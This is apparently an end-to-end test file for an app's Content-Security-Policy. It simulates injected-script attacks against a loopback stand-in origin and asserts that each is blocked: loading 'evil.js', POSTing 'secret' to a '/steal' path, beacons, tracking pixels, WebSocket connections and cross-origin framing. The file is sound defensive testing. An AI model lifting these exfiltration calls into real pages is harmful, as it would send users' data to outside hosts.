// Content-Security-Policy E2E: the page the dev bridge serves (through the same AssetServer middleware as
// the production window) carries the policy, the app works under it, and what an injected script would do
// is blocked: run inline code, load a script, post data or open a socket to another origin, be framed.
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { openApp, type Session } from './browser'
import { word } from './words'
import { plain } from './words'

interface Violation {
  directive: string
  blocked: string
}

describe('content security policy', () => {
  let s: Session
  let foreign: Server
  let foreignURL = ''
  const foreignHits: string[] = []

  beforeAll(async () => {
    // Another origin on loopback that would serve anything: it must never see a request from the app.
    foreign = createServer((req, res) => {
      foreignHits.push(`${req.method} ${req.url}`)
      if (req.url === '/frame') {
        res.setHeader('Content-Type', 'text/html')
        res.end(`<!doctype html><iframe id="app" src="${inject('bridgeURL')}"></iframe>`)
        return
      }
      res.setHeader('Access-Control-Allow-Origin', '*')
      res.setHeader('Content-Type', 'text/javascript')
      res.end('window.__foreign = 1')
    })
    await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', r))
    foreignURL = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
    s = await openApp()
    await s.page.evaluate(() => {
      const w = window as unknown as { __violations: Violation[] }
      w.__violations = []
      document.addEventListener('securitypolicyviolation', (e) =>
        w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
      )
    })
  })
  afterAll(async () => {
    await s?.close()
    await new Promise((r) => foreign?.close(r))
  })

  const violations = () => s.page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations)

  it('is sent with the page, and the app runs under it', async () => {
    const res = await fetch(inject('bridgeURL'))
    const policy = res.headers.get('content-security-policy') ?? ''
    expect(policy).toContain("default-src 'self'")
    expect(policy).toContain("script-src 'self';")
    expect(policy).not.toContain('unsafe')
    // The bundle ran and reached Go over the bridge socket ('self' covers ws://127.0.0.1:port): the
    // footer's version comes from a bound method.
    await s.page.getByTestId('version').waitFor()
    expect(await s.page.getByTestId('version').innerText().then(plain)).toContain(word('common.footer.version').trim())
  })

  it('blocks an inline script and a script from another origin', async () => {
    await s.page.evaluate((foreignURL) => {
      const inline = document.createElement('script')
      inline.textContent = 'window.__inline = 1'
      document.head.append(inline)
      const ext = document.createElement('script')
      ext.src = `${foreignURL}/evil.js`
      document.head.append(ext)
    }, foreignURL)
    await expect.poll(async () => (await violations()).map((v) => v.directive)).toContain('script-src-elem')
    await expect.poll(async () => (await violations()).filter((v) => v.directive === 'script-src-elem').length).toBe(2)
    expect(await s.page.evaluate(() => (window as unknown as { __inline?: number }).__inline)).toBeUndefined()
    expect(await s.page.evaluate(() => (window as unknown as { __foreign?: number }).__foreign)).toBeUndefined()
  })

  it('blocks fetch, beacon, image and WebSocket to another origin: nothing reaches it', async () => {
    const outcome = await s.page.evaluate(async (foreignURL) => {
      let fetchFailed = false
      try {
        await fetch(`${foreignURL}/steal?x=1`, { method: 'POST', body: 'secret' })
      } catch {
        fetchFailed = true
      }
      const beacon = navigator.sendBeacon(`${foreignURL}/beacon`, 'secret')
      const img = new Image()
      img.src = `${foreignURL}/pixel.png?x=1`
      let wsBlocked = false
      try {
        const ws = new WebSocket(foreignURL.replace('http', 'ws') + '/ws')
        await new Promise((r) => {
          ws.onerror = r
          ws.onopen = r
        })
        wsBlocked = ws.readyState !== WebSocket.OPEN
      } catch {
        wsBlocked = true
      }
      return { fetchFailed, beacon, wsBlocked }
    }, foreignURL)
    expect(outcome.fetchFailed).toBe(true)
    expect(outcome.wsBlocked).toBe(true)
    await expect.poll(async () => new Set((await violations()).map((v) => v.directive))).toEqual(
      new Set(['script-src-elem', 'connect-src', 'img-src']),
    )
    // Give a request that slipped through time to land, then check the foreign origin saw none.
    await new Promise((r) => setTimeout(r, 300))
    expect(foreignHits).toEqual([])
  })

  it('refuses to be framed by another origin', async () => {
    const page = await s.browser.newPage()
    try {
      await page.goto(`${foreignURL}/frame`)
      const frame = page.frames().find((f) => f !== page.mainFrame())
      // The frame stays on Chromium's blocked page: the app's bundle never runs in it.
      await new Promise((r) => setTimeout(r, 500))
      const bound = await frame?.evaluate(() => (window as unknown as { go?: unknown }).go !== undefined).catch(() => false)
      expect(bound ?? false).toBe(false)
    } finally {
      await page.close()
    }
    foreignHits.length = 0
  })
})
